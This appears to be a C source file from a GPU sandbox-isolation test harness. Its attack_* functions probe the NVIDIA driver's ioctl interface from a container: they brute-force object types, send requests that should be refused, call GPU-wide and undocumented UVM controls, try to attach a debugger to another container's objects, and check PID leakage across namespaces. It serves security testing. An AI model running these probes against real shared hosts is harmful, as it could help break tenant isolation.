/* Requests that are not among those that CUDA makes, and controls of the whole GPU. */
#include "attack.h"

#include <sched.h>

#define OLD_KIND 0x20808000u /* controls with bit 15, on a subdevice */

struct object { /* 0x28: ALLOC without params */
    uint32_t client, parent, object, number, status;
};

/* Whether a request goes through, by any type byte and direction. */
static unsigned passes (int file, uint32_t number, uint32_t size)
{
    static const uint32_t highs[] = { 0xc0000000u | 'F' << 8, 0xc0000000u, 0x40005400u, 0xff00u };
    static uint8_t head[16384];
    unsigned passed = 0;

    for (unsigned i = 0; i < sizeof (highs) / sizeof (highs[0]); i++) {
        memset (head, 0, sizeof (head));
        passed += ioctl (file, highs[i] | size << 16 | number, head) == 0;
    }
    return passed;
}

static uint32_t alloc_object (const struct bed *bed, uint32_t type, uint32_t parent, uint32_t handle, uint32_t number)
{
    struct object call = { bed->client, parent, handle, number, 0xffff };

    return ioctl (bed->file, (REQUEST (0x28, sizeof (call)) & ~0xff00u) | type << 8, &call) < 0 ? 0xffff : call.status;
}

/* A device by escape 0x28, and memory below it. */
void attack_requests (int argc, char **argv)
{
    static const uint32_t refused[][2] = { { 0x39, 32 }, { 0x4d, 72 }, { 0x5f, 4024 }, { 0x5f, 15412 }, { 0xd3, 16 }, { 0xd8, 4 } };
    struct bed bed = bed_open ();
    uint32_t device = 0x5e000000, status[1] = { 0xffff };
    int uvm = open ("/dev/nvidia-uvm", O_RDWR);
    uint64_t block = 64 * MIB; /* of NUMA memory: what every program says first */
    unsigned made = 0, pieces = 0, wrong = 0;

    (void) argc, (void) argv;
    for (uint32_t type = 0; type < 256; type++)
        made += alloc_object (&bed, type, bed.client, ++device, 0x80) == 0;
    say ("made", made);
    bed.device = device;
    while (made != 0 && pieces < 40) {
        uint32_t handle;

        if (bed_memory (&bed, &handle, GIB) != 0)
            break;
        pieces++;
    }
    say ("pieces", pieces);
    for (unsigned i = 0; i < sizeof (refused) / sizeof (refused[0]); i++) {
        wrong += passes (bed.file, refused[i][0], refused[i][1]);
        wrong += passes (bed.node, refused[i][0], refused[i][1]);
    }
    say ("wrong", wrong);
    say ("parameters", ioctl (bed.file, REQUEST (0xd6, 8), &block) < 0 ? (uint64_t) errno : 0);
    /* UVM: the self-test of the driver's, a number that nothing serves, counters of the whole GPU */
    say ("test", ioctl (uvm, 200, &block) < 0 ? (uint64_t) errno : 0);
    say ("nobody", ioctl (uvm, 99, &block) < 0 ? (uint64_t) errno : 0);
    say ("counters", ioctl (uvm, 79, status) < 0 ? (uint64_t) errno : status[0]);
    /* the same 32 bits on what is not NVIDIA's */
    say ("other", ioctl (0, 99, &block) < 0 ? (uint64_t) errno : 0);
    hold ();
}

/* Controls: those of the old kind that no program was seen to make, and those of the whole GPU. */
void attack_controls (int argc, char **argv)
{
    static const uint32_t whole[][2] = {
        { 0x801909, 1 }, { 0x2080200a, 8 }, { 0x2080220c, 0 }, { 0x20802210, 0 }, { 0x20800407, 1 }
    };
    struct bed bed = bed_open ();
    uint8_t params[512] = { 0 };
    uint32_t other[3] = { 0, bed.client ^ 0x10, 0x5c000000 }, boost = 0, zcull[6] = { bed.client ^ 0x10, 0x5c000003 };
    unsigned old = 0, answered = 0;

    (void) argc, (void) argv;
    for (uint32_t number = OLD_KIND; number < OLD_KIND + 0x4000; number += 61)
        old += bed_control (&bed, bed.subdevice, number, params, 16) == 0;
    say ("old", old);
    for (unsigned i = 0; i < sizeof (whole) / sizeof (whole[0]); i++)
        answered += bed_control (&bed, whole[i][0] >> 16 == 0x80 ? bed.device : bed.subdevice, whole[i][0], params, whole[i][1]) ==
                    0;
    say ("answered", answered);
    /* a debugger, and buffers, of what another container made; clocks of several GPUs, tied together */
    say ("debugger", bed_alloc (&bed, bed.subdevice, bed.next++, 0x83de, other) == 0);
    say ("zcull", bed_control (&bed, bed.subdevice, 0x20801208, zcull, sizeof (zcull)) == 0);
    say ("boost", bed_alloc (&bed, bed.client, bed.next++, 0x60, &boost) == 0);
    hold ();
}

/* What a process in a pid namespace of its own is told of pids; no attack. */
void attack_pids (int argc, char **argv)
{
    static uint32_t list[953], info[3602];
    uint32_t asked[3] = { 1, 2, (uint32_t) getpid () }, handle;
    struct bed bed;

    (void) argc, (void) argv;
    if (unshare (CLONE_NEWPID) != 0) {
        say ("unshare", (uint64_t) errno);
        return;
    }
    if (fork () != 0) {
        wait (NULL);
        return;
    }
    bed = bed_open ();
    say ("pid", (uint64_t) getpid ());
    say ("memory", bed_memory (&bed, &handle, 64 * MIB));
    list[1] = 0x2080;
    say ("list", bed_control (&bed, bed.subdevice, 0x2080018d, list, sizeof (list)));
    say ("count", list[2]);
    say ("first", list[3]);
    info[0] = 3;
    for (unsigned i = 0; i < 3; i++)
        info[2 + 18 * i] = asked[i];
    say ("info", bed_control (&bed, bed.subdevice, 0x2080018e, info, sizeof (info)));
    for (unsigned i = 0; i < 3; i++) {
        say ("same", info[2 + 18 * i] == asked[i]);
        say ("uses", info[2 + 18 * i + 4] >> 20);
    }
    hold ();
}
